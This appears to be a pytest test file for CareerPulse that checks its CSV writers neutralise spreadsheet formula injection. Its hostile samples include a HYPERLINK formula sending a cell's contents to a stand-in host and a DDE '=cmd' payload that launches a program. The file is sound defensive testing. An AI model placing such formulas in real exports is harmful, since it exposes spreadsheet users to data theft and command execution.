"""Spreadsheet formula injection: no CSV CareerPulse writes holds a cell a spreadsheet evaluates,
and what it wrote reads back as written (labels among them)."""

import csv

import duckdb
import pandas as pd
import pytest

from careerpulse_assets.review.labels import LabelFile, read_labels
from careerpulse_assets.review.spreadsheet import (
    FORMULA_STARTS,
    neutralise,
    read_frame,
    restore,
    write_frame,
)
from careerpulse_assets.review.taxonomy import load_taxonomy

# A posting title as a hostile employer (or a compromised API) could send it.
FORMULA_TITLE = '=HYPERLINK("https://example.invalid/?x="&A2,"Open posting")'
HOSTILE = [FORMULA_TITLE, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


def evaluated_by_a_spreadsheet(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote_and_reads_back_as_it_was(value):
    assert neutralise(value) == "'" + value
    assert not evaluated_by_a_spreadsheet(neutralise(value))
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Sales", "'quoted already", "50,000 postings", "", "a=b", 3, 0.5,
                                   None])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


def queue_home(tmp_path, titles: list[str]):
    """A CAREERPULSE_HOME whose silver.review_queue lists postings with these titles."""
    home = tmp_path / "home"
    home.mkdir()
    queue = pd.DataFrame({
        "posting_id": range(101, 101 + len(titles)), "priority": range(1, 1 + len(titles)),
        "title": titles, "category": "Sales", "imputation_confidence": 0.5,
        "runner_up_category": "-Marketing", "runner_up_share": 0.25,
        "link": "=https://example.invalid/job", "reason": "margin",
    })
    with duckdb.connect(str(home / "careerpulse.duckdb")) as connection:
        connection.execute("CREATE SCHEMA silver")
        connection.execute("CREATE TABLE silver.review_queue AS FROM queue")
    return home


def test_make_review_writes_the_formula_posting_as_text_and_the_file_reads_back_as_labels(
    tmp_path, monkeypatch
):
    from careerpulse_assets.review import handout as review

    home = queue_home(tmp_path, HOSTILE)
    monkeypatch.setenv("CAREERPULSE_HOME", str(home))
    monkeypatch.delenv("CAREERPULSE_LABELS_DIR", raising=False)
    monkeypatch.chdir(tmp_path)  # no .env of the checkout
    assert review.main([str(len(HOSTILE))]) == 0
    (written,) = (home / "labels").glob("review-*.csv")
    cells = [cell for row in csv.reader(written.open(newline="")) for cell in row]
    assert not [cell for cell in cells if evaluated_by_a_spreadsheet(cell)]
    rows = list(csv.DictReader(written.open(newline="")))
    assert [restore(row["title"]) for row in rows] == HOSTILE
    assert rows[0]["title"] == "'" + FORMULA_TITLE
    assert rows[0]["link"] == "'=https://example.invalid/job"

    # A reviewer signs every row, with a note a spreadsheet would evaluate, in a tool that
    # keeps the file's quotes: the labels read back as the reviewer meant them.
    for row in rows:
        row["labelled_by"], row["note"] = "ana", neutralise("=looks right")
    with written.open("w", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = read_labels([LabelFile(written.name, written.read_bytes())],
                         set(range(101, 101 + len(HOSTILE))), load_taxonomy())
    assert result.quarantine.empty
    labels = result.labels.sort_values("posting_id")
    assert labels["posting_id"].tolist() == list(range(101, 101 + len(HOSTILE)))
    assert set(labels["category"]) == {"Sales"} and set(labels["labelled_by"]) == {"ana"}
    assert set(labels["note"]) == {"=looks right"}


def test_mlflow_tables_with_hostile_category_names_are_written_as_text_and_read_back(tmp_path):
    names = ["Sales", "=cmd|' /C calc'!A0", "-Marketing"]
    confusion = pd.DataFrame([[3, 1, 0], [0, 2, 0], [1, 0, 4]], index=names, columns=names)
    confusion.index.name = "true"
    per_class = pd.DataFrame({"category": names, "f1": [0.5, 0.25, 1.0]})
    write_frame(confusion, tmp_path / "confusion.csv", index=True)
    write_frame(per_class, tmp_path / "per_class.csv")
    for path in (tmp_path / "confusion.csv", tmp_path / "per_class.csv"):
        cells = [cell for row in csv.reader(path.open(newline="")) for cell in row]
        assert not [cell for cell in cells if evaluated_by_a_spreadsheet(cell)], path
    pd.testing.assert_frame_equal(read_frame(tmp_path / "confusion.csv", index=True), confusion)
    pd.testing.assert_frame_equal(read_frame(tmp_path / "per_class.csv"), per_class)
